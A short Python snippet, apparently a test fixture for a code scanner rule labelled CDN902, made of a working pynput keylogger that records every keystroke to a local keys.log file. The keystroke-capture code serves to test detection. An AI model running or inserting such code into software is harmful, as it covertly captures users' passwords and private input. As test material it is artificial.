# expect: CDN902
from pynput import keyboard
def on_press(k):
    open('keys.log', 'a').write(str(k))
with keyboard.Listener(on_press=on_press) as l:
    l.join()
